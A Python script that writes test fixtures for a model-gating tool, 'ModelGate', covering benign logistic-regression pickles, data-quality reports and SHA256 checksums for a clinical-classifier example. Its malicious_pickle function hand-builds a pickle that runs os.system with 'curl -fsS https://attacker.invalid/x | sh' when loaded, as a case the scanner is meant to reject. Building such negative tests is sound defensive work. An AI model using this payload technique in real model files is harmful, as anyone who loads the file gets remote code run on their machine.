#!/usr/bin/env python3
"""Writes the clinical-classifier example's model files, data-quality reports and checksums.

Run from the repository root: python3 examples/clinical-classifier/make-files.py
The output is deterministic (no time, no randomness), so running it again changes nothing.

- champion/, candidate/, candidate-regressed/: model.pkl is a real, small, benign pickle
  (protocol 4) of a collections.OrderedDict holding a logistic model's coefficients: the only
  import is collections.OrderedDict, which ModelGate's scan allows. data_quality.json is the
  training job's report in ModelGate's generic format, for the snapshot model.yaml names.
- failing/model-scan/: the candidate with a model.pkl that calls os.system when loaded
  (GLOBAL os system, REDUCE). Never load it.
- failing/data-quality/: the candidate with a data-quality report whose null-rate check failed.
- SHA256SUMS in each directory, as `sha256sum` writes it, over every other file.
"""
import collections
import hashlib
import json
import os
import pickle
import shutil
import struct

HERE = os.path.dirname(os.path.abspath(__file__))
FEATURES = ["age", "bmi", "systolic_bp", "smoker"]

MODELS = {
    "champion": ([0.0312, 0.0487, 0.0215, 0.6931], -4.118),
    "candidate": ([0.0329, 0.0502, 0.0208, 0.7104], -4.236),
    "candidate-regressed": ([0.0297, 0.0511, 0.0231, 0.6689], -4.054),
}

SNAPSHOTS = {
    "champion": "s3://clinical-data/snapshots/2026-09-01",
    "candidate": "s3://clinical-data/snapshots/2026-11-01",
    "candidate-regressed": "s3://clinical-data/snapshots/2026-11-01",
}

ROWS = {"champion": 118204, "candidate": 124577, "candidate-regressed": 124577}


def model_pickle(name):
    coef, intercept = MODELS[name]
    model = collections.OrderedDict(
        [
            ("kind", "logistic_regression"),
            ("features", FEATURES),
            ("coef", coef),
            ("intercept", intercept),
            ("threshold", 0.5),
        ]
    )
    return pickle.dumps(model, protocol=4)


def malicious_pickle(benign):
    """`os.system(...)` by GLOBAL and REDUCE, its result popped, then the benign model: loading
    it runs the command and still returns a model."""
    command = b"curl -fsS https://attacker.invalid/x | sh"
    payload = (
        b"\x80\x04"  # PROTO 4
        + b"cos\nsystem\n"  # GLOBAL os system
        + b"\x8c" + struct.pack("<B", len(command)) + command  # SHORT_BINUNICODE
        + b"\x85"  # TUPLE1
        + b"R"  # REDUCE: os.system(command)
        + b"0"  # POP
    )
    return payload + benign[2:]  # the benign stream after its own PROTO


def data_quality(snapshot, rows, null_rate_bp):
    checks = [
        {"name": "row_count", "passed": rows >= 100000, "value": rows, "threshold": 100000},
        {"name": "null_rate.age", "passed": True, "value": 0.0, "threshold": 0.01},
        {"name": "null_rate.bmi", "passed": True, "value": 0.004, "threshold": 0.01},
        {
            "name": "null_rate.systolic_bp",
            "passed": null_rate_bp <= 0.01,
            "value": null_rate_bp,
            "threshold": 0.01,
        },
        {"name": "duplicate_patient_ids", "passed": True, "value": 0, "threshold": 0},
        {"name": "label_rate", "passed": True, "value": 0.118, "threshold": 0.05},
    ]
    report = {"format": "modelgate.data-quality/v1", "snapshot": snapshot, "checks": checks}
    return (json.dumps(report, indent=2) + "\n").encode()


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as handle:
        handle.write(data)


def write_checksums(directory):
    names = sorted(n for n in os.listdir(directory) if n != "SHA256SUMS")
    lines = []
    for name in names:
        with open(os.path.join(directory, name), "rb") as handle:
            lines.append(f"{hashlib.sha256(handle.read()).hexdigest()}  {name}\n")
    write(os.path.join(directory, "SHA256SUMS"), "".join(lines).encode())


def main():
    for name in MODELS:
        where = os.path.join(HERE, name)
        write(os.path.join(where, "model.pkl"), model_pickle(name))
        write(
            os.path.join(where, "data_quality.json"),
            data_quality(SNAPSHOTS[name], ROWS[name], 0.002),
        )
        write_checksums(where)

    for failing in ("model-scan", "data-quality"):
        where = os.path.join(HERE, "failing", failing)
        shutil.rmtree(where, ignore_errors=True)
        shutil.copytree(os.path.join(HERE, "candidate"), where)
    scan = os.path.join(HERE, "failing", "model-scan")
    write(os.path.join(scan, "model.pkl"), malicious_pickle(model_pickle("candidate")))
    quality = os.path.join(HERE, "failing", "data-quality")
    write(
        os.path.join(quality, "data_quality.json"),
        data_quality(SNAPSHOTS["candidate"], ROWS["candidate"], 0.073),
    )
    for failing in ("model-scan", "data-quality"):
        write_checksums(os.path.join(HERE, "failing", failing))


if __name__ == "__main__":
    main()
